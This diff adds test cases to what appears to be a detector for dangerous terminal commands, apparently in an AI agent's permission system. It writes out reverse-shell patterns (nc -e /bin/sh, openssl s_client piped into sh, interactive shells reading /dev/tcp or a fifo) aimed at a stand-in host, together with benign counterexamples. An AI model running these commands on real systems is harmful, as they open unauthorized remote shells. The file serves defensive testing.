@@ -79,7 +79,35 @@ cases := [
 		"task": granted(["nc -e /bin/sh 198.51.100.7 4444"]),
 		"want": {"ask": ["REVERSE_SHELL"]},
 	},
+	{
+		"name": "python3.11 on /dev/tcp",
+		"input": f.terminal([f.shx(["python3.11", "-i"], {"redirects": [redir("<", 0, tcp, "read")]})]),
+		"want": block,
+	},
+	{
+		"name": "openssl s_client into sh",
+		"input": f.terminal([f.sh(["openssl", "s_client", "-quiet", "-connect", "198.51.100.7:4444"]), f.shx(["sh"], {"pipe_from": "openssl"})]),
+		"want": block,
+	},
+	{
+		"name": "sh -i reading a fifo beside nc",
+		"input": f.terminal([
+			f.shx(["sh", "-i", "x"], {"redirects": [redir("<", 0, "/tmp/p", "read")]}),
+			f.sh(["nc", "198.51.100.7", "4444"]),
+		]),
+		"want": block,
+	},
+	{
+		"name": "dynamic command on a socket descriptor",
+		"input": f.terminal([
+			with_redirects(["exec"], [redir("<>", 5, tcp, "write")]),
+			f.shx(["$line"], {"dynamic": true, "redirects": [redir(">&", 1, "5", "dup")]}),
+		]),
+		"want": block,
+	},
 	# ordinary
+	{"name": "python -c with nc", "input": f.terminal([f.shx(["python3", "-c", "print(1)"], {"pipe_from": "nc"}), f.sh(["nc", "-l", "4444"])]), "want": {}},
+	{"name": "openssl without s_client", "input": f.terminal([f.sh(["openssl", "version"]), f.shx(["sh"], {"pipe_from": "openssl"})]), "want": {}},
 	{"name": "nc port check", "input": f.terminal([f.sh(["nc", "-zv", "db.example", "5432"])]), "want": {}},
 	{"name": "cat from /dev/tcp", "input": f.terminal([with_redirects(["cat"], [redir("<", 0, tcp, "read")])]), "want": {}},
 	{
